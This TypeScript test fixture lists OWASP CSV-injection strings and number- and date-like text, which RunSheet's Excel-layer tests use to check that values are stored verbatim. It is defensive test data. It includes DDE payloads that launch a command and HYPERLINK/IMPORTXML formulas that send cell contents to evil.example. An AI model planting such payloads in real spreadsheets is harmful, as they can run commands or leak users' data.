/**
 * Text that Excel would interpret if written naively: the OWASP CSV-injection cases
 * (https://owasp.org/www-community/attacks/CSV_Injection) and number-, date- and boolean-like
 * text. Every write path of RunSheet must store each of these exactly: no formula, no number,
 * no rejected write. Shared by the Excel layer's tests (import, schema, history, registry,
 * tracker, report).
 */
export const INJECTION_CORPUS: readonly string[] = [
  // OWASP: formulas and DDE
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-log_loss",
  "+49 170 1234567",
  'DDE ("cmd";"/C calc";"!A0")A0',
  "=-log_loss",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "'=1+1",
  // number-, date-, time- and boolean-like text
  "007",
  "2024-01-02",
  "TRUE",
  "false",
  "1 1/2",
  "(100)",
  "Jan 5",
  "10 PM",
  "'leading apostrophe",
  "1e5",
  "50%",
  "1,234",
  "0,91",
  "#N/A",
  "#DIV/0!",
  "$12",
];

/** The corpus as a column of single-cell rows. */
export function corpusColumn(): string[][] {
  return INJECTION_CORPUS.map((text) => [text]);
}
